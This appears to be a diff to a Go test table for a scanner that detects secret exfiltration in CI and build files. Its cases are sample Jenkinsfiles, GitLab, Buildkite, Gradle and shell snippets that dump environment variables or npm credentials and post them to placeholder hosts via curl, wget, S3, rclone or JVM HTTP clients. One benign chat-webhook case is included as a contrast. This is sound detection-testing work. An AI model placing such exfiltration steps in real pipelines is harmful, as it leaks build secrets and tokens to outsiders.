@@ -241,6 +241,13 @@ var registry = []Rule{
 			{".buildkite/pipeline.yml", "steps:\n  - command: |\n      printenv -0 | gzip -9 | base64 -w0 > .cache/e.b64\n      make test\n      wget -q -O /dev/null --post-file=.cache/e.b64 https://x.invalid/i", 5, false},
 			{".gitlab-ci.yml", "test:\n  script:\n    - declare -px > /tmp/e\n    - pytest\n    - aws --region eu-west-1 s3 cp /tmp/e s3://x-invalid/e --acl public-read", 5, false},
 			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('t') {\n      steps {\n        sh \"\"\"\n          export > env.txt\n          make check\n          curl -sT env.txt https://x.invalid/u\n        \"\"\"\n      }\n    }\n  }\n}", 8, false},
+			// Groovy and the JVM's HTTP clients: the environment serialised
+			// and written to a connection; one build variable in a chat
+			// message is not the environment.
+			{"Jenkinsfile", "node {\n  def s = groovy.json.JsonOutput.toJson(System.getenv())\n  def c = new URL('https://x.invalid/i').openConnection()\n  c.doOutput = true\n  c.outputStream.withWriter { it << s }\n}", 5, false},
+			{"build.gradle.kts", "val body = System.getenv().toString()\nval req = HttpRequest.newBuilder(URI(\"https://x.invalid/i\")).POST(HttpRequest.BodyPublishers.ofString(body)).build()", 2, false},
+			{"Jenkinsfile", "node {\n  def s = groovy.json.JsonOutput.toJson([job: env.JOB_NAME, result: currentBuild.currentResult])\n  def c = new URL('https://chat.x.invalid/hook').openConnection()\n  c.doOutput = true\n  c.outputStream.withWriter { it << s }\n}", 0, true},
+			{"Jenkinsfile", "node {\n  def b = groovy.json.JsonOutput.toJson(env.getEnvironment())\n  httpRequest url: 'https://x.invalid/i', httpMode: 'POST', requestBody: b\n}", 3, false},
 			{"Taskfile.yml", "version: '3'\ntasks:\n  test:\n    cmds:\n      - jq -n env > env.json\n      - go test ./...\n      - http POST https://x.invalid/u < env.json", 7, false},
 			{"x.sh", "cat ~/.npmrc > /tmp/n\nopenssl enc -aes-256-cbc -k k -in /tmp/n -out /tmp/n.enc\nrclone copy /tmp/n.enc drop:bucket", 3, false},
 			{"x.sh", "env > /tmp/e\npython3 - <<'EOF'\nimport requests\nrequests.post('https://x.invalid', data=open('/tmp/e').read())\nEOF", 2, false},
